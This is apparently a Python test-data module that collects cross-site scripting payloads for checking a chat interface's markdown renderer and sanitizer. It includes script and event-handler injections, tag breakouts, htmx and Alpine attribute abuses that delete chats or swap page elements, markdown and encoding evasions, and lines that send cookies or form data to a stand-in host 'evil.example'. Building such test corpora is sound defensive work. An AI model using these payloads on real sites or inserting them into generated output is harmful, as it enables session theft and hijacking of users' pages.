"""Hostile text for the renderer: what a model (or a user) might write to get script, requests or markup into the page.

One list, used by the unit tests of the markdown renderer and sanitizer (tests/unit/test_markdown.py) and by
the browser test that streams every payload through a provider and types it as a user (tests/security).
Payloads that act call `alert(1)` (a dialog) or fetch from `evil.example` (a request to another origin), so
the browser test sees any one that works. Hand-written classics first, then generated families.
"""

from __future__ import annotations

from ui import ids

CLASSICS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
    "<script/src=//evil.example/x.js></script>",
    '<script type="module">import "https://evil.example/m.js"</script>',
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<IMG SRC=javascript:alert('XSS')>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img src=https://evil.example/pixel.gif>",
    '<img srcset="https://evil.example/a.png 1x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x" />',
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<math href="javascript:alert(1)">x</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="https://evil.example/x.swf">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="background-image:url(https://evil.example/bg.png)">x</div>',
    '<input autofocus onfocus="alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<form action="https://evil.example/steal" method="post"><input name="q" value="x"><button>Send</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="prefetch" href="https://evil.example/p">',
    '<base href="javascript:alert(1)//">',
    '<base href="https://evil.example/">',
    '<details open ontoggle="alert(1)">',
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<video poster="https://evil.example/p.png"></video>',
    "<marquee onstart=alert(1)>x</marquee>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    '<template><script>alert(1)</script></template>',
    "<!-- <script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"https://evil.example/x.xsl\"?>",
    "<style>@import \"https://evil.example/x.css\";</style>",
    "<style>*{background:url(https://evil.example/bg)}</style>",
    "<style>@keyframes x{}</style><div style=\"animation-name:x\" onanimationstart=\"alert(1)\"></div>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<table background=\"javascript:alert(1)\">",
    "<div draggable=true ondragstart=alert(1)>drag</div>",
    "<p onpointerenter=alert(1)>hover</p>",
    "<a id=x tabindex=1 onfocusin=alert(1)></a>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<slot onclick=alert(1)>x</slot>",
    "<portal src=https://evil.example></portal>",
    "<frameset onload=alert(1)>",
]

# Attribute and element breakouts: text that closes whatever it might be sitting in.
BREAKOUTS = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</span></div><script>alert(1)</script>",
    "</pre></code><img src=x onerror=alert(1)>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus x='",
    "`><img src=x onerror=alert(1)>",
    "</div></div></div></main><div id=\"chat-input\">took over</div>",
    "</details><script>alert(1)</script>",
]

# htmx and Alpine attributes: markup that would act through the page's own libraries.
LIBRARY_ATTRIBUTES = [
    'hx-get="/x" hx-trigger="load"',
    '<div hx-get="/chat/new" hx-trigger="load" hx-swap="outerHTML">x</div>',
    '<div hx-post="/chat/1/delete" hx-trigger="load">x</div>',
    '<div hx-get="/chat/delete" hx-trigger="load">x</div>',
    '<div id="chat-turns" hx-swap-oob="true">pwned</div>',
    '<p id="chat-input" hx-swap-oob="outerHTML">x</p>',
    '<div hx-get="https://evil.example/" hx-trigger="load">x</div>',
    '<div hx-on:htmx:load="alert(1)">x</div>',
    '<div hx-on::load="alert(1)">x</div>',
    '<div hx-vals=\'js:{a: alert(1)}\' hx-post="/x" hx-trigger="load">x</div>',
    '<span data-hx-post="/x" data-hx-trigger="load">x</span>',
    '<div hx-ext="ws" ws-connect="wss://evil.example/ws">x</div>',
    '<form ws-send hx-trigger="load"><input name="action" value="stop"></form>',
    '<form ws-send hx-trigger="load"><input name="action" value="send"><input name="msg" value="again"></form>',
    '<div hx-trigger="every 1s" hx-get="/chat/history">x</div>',
    '<div hx-boost="true"><a href="/chat/new">x</a></div>',
    '<div hx-headers=\'{"X-Evil": "1"}\' hx-get="/x" hx-trigger="load">x</div>',
    '<div hx-swap-oob="outerHTML:#chat-input">x</div>',
    '<div hx-select-oob="#chat-input">x</div>',
    '<div x-data="{}" x-init="alert(1)" @click="alert(1)" :class="x">x</div>',
    '<div x-data x-html="\'<img src=x onerror=alert(1)>\'"></div>',
    '<div x-data="chat" x-init="truncateAfter(-1)">x</div>',
    '<div x-data x-on:click="alert(1)">x</div>',
    '<a x-data :href="\'javascript:alert(1)\'">x</a>',
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
]

# Markdown tricks: links, images, autolinks, reference definitions, code fences.
MARKDOWN = [
    "[a](javascript:alert(1))",
    "[a](JAVASCRIPT:alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](<java script:alert(1)>)",
    "[a]( javascript:alert(1) )",
    "[a](javascript://%0Aalert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](livescript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](data:image/png;base64,iVBORw0KGgo=)",
    "[a](file:///etc/passwd)",
    "[a](//evil.example/x)",
    "[a](/chat/1/delete)",
    "[a](#chat-input)",
    "[a](\\\\evil.example\\x)",
    '[a](https://example.com "onmouseover=alert(1)")',
    '[a](https://example.com" onmouseover="alert(1))',
    '[a](https://example.com/"><script>alert(1)</script>)',
    "[a](https://example.com/'onmouseover='alert(1))",
    "[<img src=x onerror=alert(1)>](https://example.com)",
    "[a](https://example.com){onclick=alert(1)}",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](https://tracker.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    '![x" onerror="alert(1)](https://example.com/a.png)',
    "![<img src=x onerror=alert(1)>](x.png)",
    "[![x](https://tracker.example/p.png)](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: https://evil.example/p.png\n\n![x]",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<vbscript:msgbox(1)>",
    '<https://example.com/" onclick="alert(1)>',
    "<https://evil.example/a?<script>alert(1)</script>>",
    "<mailto:a@b.c?body=<script>alert(1)</script>>",
    "https://evil.example/auto-link-not-fetched",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "```python onload=alert(1)\nprint(1)\n```",
    "```js\n</code></pre><script>alert(1)</script>\n```",
    "```javascript\nalert(1)\n```",
    "```svg\n<svg onload=alert(1)>\n```",
    "~~~html\n<img src=x onerror=alert(1)>\n~~~",
    "```\n<img src=x onerror=alert(1)>",  # a fence never closed
    "`<script>alert(1)</script>`",
    "``<img src=x onerror=alert(1)>``",
    "    <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "> > > <svg onload=alert(1)>",
    "- <svg onload=alert(1)>",
    "1. <img src=x onerror=alert(1)>\n2. [a](javascript:alert(1))",
    "- [ ] <script>alert(1)</script>\n- [x] done",
    "| <script>x</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
    '| a |\n|:-:|\n| [x](javascript:alert(1)) |',
    "# <a href=javascript:alert(1)>h</a>",
    "Heading\n=======<script>alert(1)</script>",
    "*<img src=x onerror=alert(1)>*",
    "**[a](javascript:alert(1))**",
    "~~<svg onload=alert(1)>~~",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&amp;lt;script&amp;gt;alert(1)",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java\0script:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[a](https://example.com)<script>alert(1)</script>",
    "text\n\n<script>\nalert(1)\n</script>\n\ntext",
    "<div>\n\n**markdown inside html** <img src=x onerror=alert(1)>\n\n</div>",
]

# Unicode and encoding tricks.
ENCODINGS = [
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # fullwidth angle brackets
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u202e<script>alert(1)</script>",
    "<img src=x one\u0000rror=alert(1)>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<img src=x onerror=\\u0061lert(1)>",
    "<a href=\"javas&#99;ript:alert(1)\">x</a>",
    "<IMG SRC=\"jav&#x0D;ascript:alert(1);\">",
    "<svg><script>&#97;lert(1)</script></svg>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img/src=x/onerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
]

HANDLERS = ["onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onanimationstart", "onpageshow"]
TAGS = ["img src=x", "svg", "body", "details open", "input autofocus", "iframe", "video src=x", "div"]

# The ids the server targets, each claimed by model markup that asks htmx to swap it out of band.
TARGET_IDS = [ids.CHAT, ids.TURNS, ids.SCROLL, ids.PROGRESS, ids.INPUT, ids.FORM, ids.TITLE, ids.NOTICES, ids.MENU,
              ids.turn(0), ids.user(0), ids.assistant(0), ids.meta(0), ids.node(0, 0), ids.part(0, 0, 0)]


def _generated() -> list[str]:
    handlers = [f"<{tag} {h}=alert(1)>" for tag, h in zip(TAGS * 2, HANDLERS + HANDLERS[::-1], strict=True)]
    swaps = []
    for i, target in enumerate(TARGET_IDS):
        how = ("true", "outerHTML", "innerHTML", "beforeend")[i % 4]
        swaps.append(f'<div id="{target}" hx-swap-oob="{how}"><button ws-send>pwned {target}</button></div>')
        swaps.append(f'[{target}](#{target})<span id="{target}" hx-swap-oob="true" data-running="false">x</span>')
    return handlers + swaps


XSS_PAYLOADS: list[str] = list(dict.fromkeys(CLASSICS + BREAKOUTS + LIBRARY_ATTRIBUTES + MARKDOWN + ENCODINGS
                                             + _generated()))
